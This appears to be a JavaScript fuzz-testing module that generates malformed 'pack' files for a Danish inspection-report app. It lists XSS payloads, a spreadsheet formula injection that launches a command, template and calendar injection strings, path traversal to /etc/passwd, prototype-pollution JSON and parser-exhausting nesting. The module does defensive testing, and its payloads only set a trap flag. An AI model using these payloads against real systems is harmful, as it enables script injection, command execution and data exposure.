// Pack files that nobody should send: made from real ones by a seed, the same for the same seed. Texts that would be code,
// a formula, a field or a mark in another place than this; shapes that a file never has; bytes that are no file.

import { RAN } from "./trap.mjs";
import { chance } from "./chance.mjs";

const ELSEWHERE = "https://elsewhere.test/";

/** Texts that would be something else in a page, in a script, in a style, in an address. */
const MARKUP = [
  `<script>${RAN}=1</script>`,
  `<img src=x onerror="${RAN}=1">`,
  `</textarea></title></style></script><svg onload="${RAN}=1">`,
  `"'><iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
  `<a href="javascript:${RAN}=1" autofocus onfocus="${RAN}=1">her</a>`,
  `<style>@import "${ELSEWHERE}a.css"; * { background: url(${ELSEWHERE}a.png) }</style>`,
  `<!--<script>${RAN}=1//--><![CDATA[<b>]]><?php ${RAN}=1 ?>`,
  `<base href="${ELSEWHERE}"><meta http-equiv="refresh" content="0; url=${ELSEWHERE}"><link rel=stylesheet href="${ELSEWHERE}a.css">`,
  `<object data="${ELSEWHERE}a.pdf"></object><embed src="${ELSEWHERE}a.swf"><form action="${ELSEWHERE}"><button>ok</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RAN}=1></style></mglyph></table></mtext></math>`,
  `&lt;script&gt;${RAN}=1&lt;/script&gt; &#60;img src=x onerror=${RAN}=1&#62; &amp; &nbsp;`,
  `\${${RAN}=1} \`\${${RAN}=1}\` "+(${RAN}=1)+" ');${RAN}=1;//`,
  `javascript:${RAN}=1`,
  `data:text/html,<script>${RAN}=1</script>`,
  `%PAKKE% %s %SPROG% $& $1 $' $\` $$`,
];

/** What a spreadsheet would work out. */
const FORMULAS = [
  '=HYPERLINK("https://elsewhere.test/?"&A1;"se her")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1",
  '";=1+1', '",=1+1', "a;=1+1;b", 'x"\r\n"=1+1', "'=1+1", "＝1＋1", " \u00a0=1", '"=1"', "a|=1", "\ufeff=1+1",
];

/** Fields of the template of reports, and of other templates. */
const FIELDS = [
  "{tilbud}", "{#temaer}{titel}{/temaer}", "{/}", "{#}", "{^temaer}", "{@raw}", "{{7*7}}", "{% for x in y %}", "}{", "{", "}}}", "{=<% %>=}",
  "<w:p/><w:t>", "]]>", "{tilbud | upper}", "{#temaer}",
];

/** Letters that reorder, hide, break or are none. */
const LETTERS = [
  "\u202Efdp.exe\u202C", "\u2066\u2067\u2068abc", "שלום עולם", "مرحبا", "\u200b\u200d\ufeff\u00ad", "\u0000\u0001\u0007\u001b[31m\u007f\u0085", "\u2028\u2029",
  "a\r\nb\rc\nd\n\n\ne", "\ud800", "\udfff\ud83d", "😀👩‍👩‍👧", "\ufffe\uffff\ufdd0", "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307", "İıſKÅ", "   \t  ", "../../../etc/passwd",
  "con.aux.nul", "C:\\Windows\\x", "a/b/c?d#e%20%zz", "__proto__", "constructor", "# * _ ` [x](javascript:1) ![y](https://elsewhere.test/y.png) www.elsewhere.test",
  "| a | b |\n|---|---|", "```\n~~~", "null", "undefined", "[object Object]", "-0", "1e999",
];

const KINDS = [MARKUP, MARKUP, FORMULAS, FIELDS, LETTERS, LETTERS];

/** A text that is hostile in one way or three, with a name to find it by. */
function hostileText({ pick, oneIn }, name) {
  const parts = oneIn(3) ? [pick(pick(KINDS)), pick(pick(KINDS)), pick(pick(KINDS))] : [pick(pick(KINDS))];
  // The name comes last, so that the beginning of the text is hostile.
  return `${parts.join(oneIn(2) ? "\n" : " ")} ${name}`;
}

/** The names of the seven sources, as keys have them. */
const SOURCES = ["borgere", "pårørende", "medarbejdere", "ledelse", "visiterende kommune", "dokumenter", "observation"];
const FACTS = ["tilbud", "adresse", "tidspunkt", "varsel", "deltagere", "grundlag"];
const ASSESSED = ["vurdering", "begrundelse", "opmaerksomhed"];
const NAMES_OF_OBJECTS = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"];
const TIMES = [0, 1, 1.5, 1.7e12, Date.UTC(9999, 11, 31)];

/** Halves of characters can be in texts, but not in addresses, which ids are part of. */
const asId = (text) => text.toWellFormed();

/** Values of records that are days, times or numbers; a text in their place is nothing to show. */
const DAYS = ["2026-12-04", "2099-12-31", "2026-02-30", "", "0"];
const CLOCKS = ["09:30", "23:59", "25:99", "9:30"];

/** A file of the right shape in which everything that can be text is hostile. */
function withTexts(random, base, number) {
  const { pick, oneIn, below } = random;
  let made = 0;
  const text = () => hostileText(random, `t${number}x${(made += 1)}`);
  const rev = () => `${text()}-rev`;
  // Notes can be of any length.
  const note = () => (oneIn(40) ? "langt ".repeat(below(3000)) : "") + text();
  const record = (key, value = note) => ({
    key, rev: rev(), past: Array.from({ length: below(3) }, rev), time: pick(TIMES), by: text(), value: value(),
    also: Array.from({ length: below(3) }, () => ({ rev: rev(), time: pick(TIMES), by: text(), value: value() })),
  });
  const own = () => ({ text: text(), theme: text(), source: pick(SOURCES) });
  const questions = [...base.pack.questions.slice(0, 2), ...Array.from({ length: 3 }, () => ({ id: asId(text()), text: text() }))];
  if (oneIn(3)) questions.push({ id: pick(NAMES_OF_OBJECTS), text: text() });
  const owns = [`own/${asId(text())}`, "own/1-2-3"];
  const places = [`indikator/${base.indicator}`, `indikator/${asId(text()).replaceAll("/", "|")}`, `tema/${asId(text()).replaceAll("/", "|")}`];
  // Names that a file for a calendar would take for lines of its own.
  const agreed = ["1-2-3", `${asId(text()).replaceAll("/", "|")}\r\nATTACH:${ELSEWHERE.replaceAll("/", "|")}`];
  const orText = (values) => () => (oneIn(3) ? text() : pick(values));
  const planned = [
    record("plan/dato", orText(DAYS)), record("plan/frist", orText(DAYS)), record("plan/klokken", orText(CLOCKS)),
    record("plan/borgere/hvem"), record("plan/borgere/minutter", orText(["30", "-1", "1e9"])),
    ...agreed.flatMap((id) => [record(`aftale/${id}/tekst`), record(`aftale/${id}/slags`, orText(["Aftalt", "Følg op"])), record(`aftale/${id}/dato`, orText(DAYS))]),
  ];
  const keys = [
    ...[...questions.map(({ id }) => id), ...owns].flatMap((id) => [`note/${id}/${pick(SOURCES)}`, `state/${id}`, `mærke/${id}/${pick(SOURCES)}`]),
    ...FACTS.map((fact) => `fact/${fact}`),
    ...places.flatMap((place) => ASSESSED.map((part) => `assess/${place}/${part}`)),
  ];
  return {
    ...base.head, by: text(), saved: pick(TIMES),
    pack: {
      id: oneIn(4) ? pick(NAMES_OF_OBJECTS) : `fil-${number}`, name: text(), edition: oneIn(2) ? base.pack.edition : text(), service: text(), visit: text(),
      created: pick(TIMES), ends: pick(TIMES), questions,
    },
    records: [...keys.map((key) => record(key)), ...planned, ...owns.map((key) => record(key, own))],
  };
}

/** Values that stand where another belongs. */
const VALUES = [
  null, true, 0, -1, 1e308, -1e308, 1.5, 9e15, "", "0", "x".repeat(6000), [], [[]], {}, [null], { length: 3 }, { toString: null, valueOf: null }, { then: 1 },
  { __proto__: null, text: "a" }, "\ud800", "a/b", "../x", "__proto__", JSON.parse(`${"[".repeat(500)}${"]".repeat(500)}`),
  JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'), Array(2000).fill({}),
];

/** The parent and the key of everything in a value. */
function* placesIn(value) {
  if (value === null || typeof value !== "object") return;
  for (const key of Object.keys(value)) {
    yield [value, key];
    yield* placesIn(value[key]);
  }
}

/** Changes that are made to a whole file, one to three times. */
const CHANGES = {
  replace: ({ pick }, [parent, key]) => (parent[key] = structuredClone(pick(VALUES))),
  remove: (_, [parent, key]) => (Array.isArray(parent) ? parent.splice(Number(key), 1) : delete parent[key]),
  twice: ({ below }, [parent, key]) => Array.isArray(parent) && parent.splice(below(parent.length + 1), 0, structuredClone(parent[key])),
  rename: ({ pick }, [parent, key]) => {
    const { [key]: value } = parent;
    delete parent[key];
    if (!Array.isArray(parent)) Object.defineProperty(parent, pick(["__proto__", "constructor", "Key", ""]), { value, enumerable: true });
  },
  exchange: ({ pick }, [parent, key], all) => {
    const [other, its] = pick(all);
    [parent[key], other[its]] = [structuredClone(other[its]), structuredClone(parent[key])];
  },
  wrap: (_, [parent, key]) => (parent[key] = [parent[key]]),
};

function withShape(random, base) {
  const file = structuredClone(base.file);
  for (let left = 1 + random.below(3); left > 0; left -= 1) {
    const all = [...placesIn(file)];
    const how = random.pick(Object.keys(CHANGES));
    CHANGES[how](random, random.pick(all), all);
  }
  return file;
}

/** Changes of the letters of a file. */
const CUTS = [
  (text, at) => text.slice(0, at),
  (text, at) => text.slice(at),
  (text, at) => text.slice(0, at) + "\u0000" + text.slice(at),
  (text, at) => text.slice(0, at) + text.slice(at + 1),
  (text, at) => text.slice(0, at) + text[at] + text.slice(at),
  (text) => `\ufeff${text}`,
  (text) => `${text}\n<script>${RAN}=1</script>`,
  (text) => `<!doctype html><script>${RAN}=1</script>${text}`,
  (text) => text.replaceAll('"key":', '"key":"note/x/borgere","key":'),
  (text) => text.replaceAll('"value":', '"__proto__":{"value":"a"},"value":'),
  (text) => text.replace('"records":[', `"records":[${"[".repeat(20_000)}${"]".repeat(20_000)},`),
  (text) => `${"[".repeat(100_000)}${text}`,
  (text) => text.replaceAll('"', "'"),
  (text) => text.replace(/"version":\d/, '"version":1e0'),
  (text) => Buffer.from(text, "utf16le").toString("latin1"),
];

/**
 * The files of a seed, one for each number: what it is, its text, its passphrase if it is sealed, and what is in it. `bases`
 * are real files; `seal` seals a file as the page does.
 */
export async function hostileFile(seed, number, bases, seal) {
  const random = chance(seed * 1000 + number);
  const file = random.pick(bases);
  const { by, saved, pack, records, ...head } = file;
  const base = { file, head, pack, indicator: pack.questions[0].id.split(".").slice(0, 2).join(".") };
  const kind = number % 10;
  if (kind < 5) {
    const content = withTexts(random, base, number);
    return { kind: "texts", content, text: JSON.stringify(content) };
  }
  if (kind < 8) {
    const content = withShape(random, base);
    return { kind: "shape", content, text: JSON.stringify(content) };
  }
  if (kind < 9) {
    const text = JSON.stringify(file);
    return { kind: "letters", text: CUTS[(number - 8) / 10 % CUTS.length](text, random.below(text.length)) };
  }
  const content = random.oneIn(2) ? withTexts(random, base, number) : withShape(random, base);
  return { kind: "sealed", content, ...(await seal(content)) };
}
